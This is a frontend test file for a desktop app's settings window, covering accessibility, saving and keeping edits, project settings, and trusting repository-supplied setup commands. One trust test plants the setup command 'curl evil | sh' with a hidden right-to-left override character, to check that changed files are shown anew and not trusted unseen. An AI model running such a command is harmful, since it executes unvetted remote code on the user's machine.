// @vitest-environment jsdom
/** The settings in the whole window, on the daemon in memory. */
import { act, screen as page, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import axe from 'axe-core';
import { describe, expect, it, vi } from 'vitest';
import { openSession, openSettings, screen, SETTINGS_SECTIONS, type SettingsSection } from '../app/screen';
import { CallFailure } from '../platform/bridge';
import type { FakeDaemon } from '../platform/fake';
import { keptOf } from '../platform/fake/settings';
import type { BridgeRequest } from '../protocol/generated';
import { calls, eachInItsOwnWindow, openWindow } from '../testing/window';

vi.mock('../terminal/TerminalView', () => ({ TerminalView: () => null }));

eachInItsOwnWindow();

async function settings(section: SettingsSection, project: string | null = null, scene = 'fleet', before: (daemon: FakeDaemon) => void = () => undefined) {
  const user = userEvent.setup({ delay: null });
  const daemon = await openWindow(scene, before);
  act(() => openSettings(section, project));
  await page.findByTestId('settings');
  return { user, daemon };
}

async function violations(): Promise<string[]> {
  const found = await axe.run(document, { rules: { 'color-contrast': { enabled: false } }, resultTypes: ['violations'] });
  return found.violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.html}`));
}

const value = (testid: string): string => page.getByTestId<HTMLInputElement>(testid).value;
const said = (): string => page.getByTestId('settings-said').textContent;

describe('axe finds nothing wrong on', () => {
  it.each(SETTINGS_SECTIONS)('the section %s', async (section) => {
    await settings(section, 'web-checkout');
    if (section === 'general' || section === 'project') await page.findByTestId('settings-said');
    expect(await violations()).toEqual([]);
  });

  it('settings that are not there yet, and without any repository', async () => {
    await settings('project', null, 'empty');
    expect(await violations()).toEqual([]);
    act(() => openSettings('general'));
    await page.findByTestId('settings-said');
  });
});

describe('the daemon\'s settings', () => {
  it('are checked at the field, saved as a whole, and say so', async () => {
    const { user, daemon } = await settings('general');
    await user.type(await page.findByTestId('setting-max_running'), '0');
    await user.type(page.getByTestId('setting-trash_days'), '7');
    expect(said()).toContain('2 edits are not saved. They are kept when you leave.');
    await user.click(page.getByTestId('settings-save'));
    expect(page.getByTestId('wrong-max_running').textContent).toContain('A whole number from 1');
    expect(document.activeElement).toBe(page.getByTestId('setting-max_running'));
    expect(calls(daemon, 'settings.write')).toEqual([]);
    expect(await violations()).toEqual([]);
    await user.clear(page.getByTestId('setting-max_running'));
    await user.type(page.getByTestId('setting-max_running'), '6');
    daemon.state.settings = { ...daemon.state.settings, disk_floor_mib: 99 };
    await user.click(page.getByTestId('settings-save'));
    await waitFor(() => expect(said()).toBe('Saved'));
    // What was changed elsewhere meanwhile is kept.
    expect(calls(daemon, 'settings.write')).toEqual([{ settings: { restore: 'automatic', max_running: 6, trash_days: 7, disk_floor_mib: 99 } }]);
    expect(value('setting-disk_floor_mib')).toBe('99');
  });

  it('keep what is typed while the rest is being saved', async () => {
    let store = (): void => undefined;
    const { user } = await settings('general', null, 'fleet', (daemon) => {
      const plain = daemon.request.bind(daemon);
      daemon.request = async (request: BridgeRequest) => {
        if (request.ask === 'call' && request.method === 'settings.write') await new Promise<void>((resolve) => (store = resolve));
        return plain(request);
      };
    });
    await user.type(await page.findByTestId('setting-trash_days'), '7');
    await user.click(page.getByTestId('settings-save'));
    await waitFor(() => expect(said()).toContain('Saving'));
    await user.type(page.getByTestId('setting-trash_free_gib'), '20');
    await act(async () => {
      store();
      await Promise.resolve();
    });
    await waitFor(() => expect(said()).toContain('One edit is not saved'));
    expect([value('setting-trash_days'), value('setting-trash_free_gib')]).toEqual(['7', '20']);
  });

  it('keep edits when a person leaves, also by Escape and over a restart', async () => {
    const { user } = await settings('general');
    await user.type(await page.findByTestId('setting-trash_days'), '7');
    await user.keyboard('{Escape}');
    expect(page.queryByTestId('settings')).toBeNull();
    expect(window.localStorage.getItem('ao.settings')).toBe('[["general",{"trash_days":"7"}]]');
    act(() => openSettings('privacy'));
    expect(within(page.getByTestId('settings-section-general')).getByText(/not saved/)).toBeDefined();
    await user.click(page.getByTestId('settings-section-general'));
    expect((await page.findByTestId<HTMLInputElement>('setting-trash_days')).value).toBe('7');
    await user.click(page.getByTestId('settings-discard'));
    expect(value('setting-trash_days')).toBe('');
    expect(window.localStorage.getItem('ao.settings')).toBeNull();
  });

  it('wait for the daemon while it is away, and can be read again when they could not be', async () => {
    let mended = false;
    const failing = (daemon: FakeDaemon): void => {
      const plain = daemon.request.bind(daemon);
      daemon.request = (request: BridgeRequest) => {
        if (request.ask !== 'call' || request.method !== 'settings.read' || mended) return plain(request);
        return Promise.reject(new CallFailure({ code: 'STORAGE_FAILED', class: 'internal', message: 'the disk does not answer' }));
      };
    };
    const { user } = await settings('general', null, 'fleet', failing);
    await page.findByTestId('settings-failed');
    expect(await violations()).toEqual([]);
    mended = true;
    await user.click(page.getByTestId('settings-retry'));
    expect(await page.findByTestId('setting-trash_days')).toBeDefined();
  });

  it('say that the daemon is away', async () => {
    await settings('general', null, 'reconnecting');
    expect(page.getByTestId('settings-wait').textContent).toContain('away');
    expect(await violations()).toEqual([]);
  });

  it('lead back to the session that was on screen', async () => {
    const user = userEvent.setup({ delay: null });
    await openWindow('fleet');
    act(() => openSession('payments-api-23'));
    await user.click(page.getByTestId('open-settings'));
    await user.click(page.getByTestId('settings-section-appearance'));
    await user.keyboard('{Escape}');
    expect(screen.getState().view).toEqual({ kind: 'session', session: 'payments-api-23' });
  });
});

describe('a project\'s settings', () => {
  it('are saved whole, and a refusal stands at its field', async () => {
    const { user, daemon } = await settings('project', 'payments-api');
    await user.type(await page.findByTestId('setting-check'), 'npm test');
    await user.click(page.getByTestId('setting-land-squash'));
    await user.type(page.getByTestId('setting-env'), 'A=1');
    await user.click(page.getByTestId('settings-save'));
    await waitFor(() => expect(said()).toBe('Saved'));
    expect(calls(daemon, 'project.configure')).toEqual([{ project: 'payments-api', settings: { setup: 'pnpm install --frozen-lockfile', copy: ['.env*'], fetch: true, check: 'npm test', land: 'squash', env: { A: '1' } } }]);
    const plain = daemon.request.bind(daemon);
    daemon.request = (request: BridgeRequest) => (request.ask === 'call' && request.method === 'project.configure' ? Promise.reject(new CallFailure({ code: 'INVALID_REQUEST', class: 'invalid', message: '`branch`: it makes "x y", which git does not take as a branch\'s name' })) : plain(request));
    await user.type(page.getByTestId('setting-branch'), 'x y/{{id}');
    await user.click(page.getByTestId('settings-save'));
    expect((await within(page.getByTestId('field-branch')).findByTestId('error')).textContent).toContain('which git does not take');
    expect(value('setting-branch')).toBe('x y/{id}');
    expect(await violations()).toEqual([]);
  });

  it('of each project are edited by themselves, and variables are not written down before they are saved', async () => {
    const { user } = await settings('project', 'payments-api');
    await user.type(await page.findByTestId('setting-env'), 'TOKEN=secret');
    expect(window.localStorage.getItem('ao.settings')).toBeNull();
    await user.click(page.getByTestId('settings-project'));
    await user.click(await page.findByTestId('settings-of-infra'));
    await waitFor(() => expect(value('setting-env')).toBe(''));
    await user.click(page.getByTestId('settings-project'));
    await user.click(await page.findByTestId('settings-of-payments-api'));
    await waitFor(() => expect(value('setting-env')).toBe('TOKEN=secret'));
  });
});

describe('what a repository says', () => {
  it('is shown whole before it is trusted, counts then, and the trust can be taken away', async () => {
    const { user, daemon } = await settings('project', 'web-checkout');
    const trust = await page.findByTestId('trust');
    expect(trust.dataset['stand']).toBe('untrusted');
    expect(within(trust).getAllByTestId('trust-runs').map((one) => one.dataset['key'])).toEqual(['setup', 'teardown', 'env']);
    expect(trust.textContent).toContain('npm ci\nnpm run build:assets');
    expect(page.getByTestId('said-setup').textContent).toContain('does not count until you trust it');
    expect(page.getByTestId('said-ports').textContent).toContain('From the repository: 3');
    await user.click(page.getByTestId('trust-this'));
    await waitFor(() => expect(page.getByTestId('trust').dataset['stand']).toBe('trusted'));
    expect(calls(daemon, 'project.trust')).toEqual([{ project: 'web-checkout', digest: 'digest-1' }]);
    expect(page.getByTestId('said-setup').textContent).toContain('From the repository');
    expect(await violations()).toEqual([]);
    await user.click(page.getByTestId('trust-no-more'));
    await waitFor(() => expect(page.getByTestId('trust').dataset['stand']).toBe('untrusted'));
  });

  it('is shown anew if it has changed meanwhile, and is not trusted unseen', async () => {
    const { user, daemon } = await settings('project', 'web-checkout');
    await page.findByTestId('trust');
    const kept = keptOf(daemon.state, 'web-checkout');
    kept.file = { ...kept.file!, settings: { setup: 'curl evil | sh \u202e' }, digest: 'digest-2' };
    await user.click(page.getByTestId('trust-this'));
    await waitFor(() => expect(page.getByTestId('trust').textContent).toContain('curl evil | sh ⟨U+202E⟩'));
    expect(page.getByTestId('trust').dataset['stand']).toBe('untrusted');
    expect(within(page.getByTestId('trust')).getByTestId('error').dataset['code']).toBe('SETTINGS_CHANGED');
    expect(await violations()).toEqual([]);
  });

  it('is told when it cannot be read', async () => {
    await settings('project', 'infra', 'fleet', ({ state }) => {
      keptOf(state, 'infra').file = { path: '/home/ada/src/infra/.ao/project.toml', settings: {}, problem: '`setups` is no setting' };
    });
    expect((await page.findByTestId('trust')).textContent).toContain('nothing of it counts: `setups` is no setting');
    expect(page.queryByTestId('trust-this')).toBeNull();
  });
});

describe('what counts at once', () => {
  it('is the look of the window', async () => {
    const { user } = await settings('appearance');
    await user.click(page.getByTestId('setting-theme-light'));
    expect(window.localStorage.getItem('ao.theme')).toBe('light');
    await user.click(page.getByTestId('zoom-in'));
    expect(page.getByTestId('zoom-now').textContent).toBe('110 %');
    await user.click(page.getByTestId('zoom-out'));
  });

  it('leaves a calm word on privacy', async () => {
    await settings('privacy');
    expect(page.getByTestId('settings').textContent).toContain('This app sends nothing anywhere.');
    expect(page.getByTestId('settings').textContent).toContain('/home/ada/.ao/desktop');
  });
});
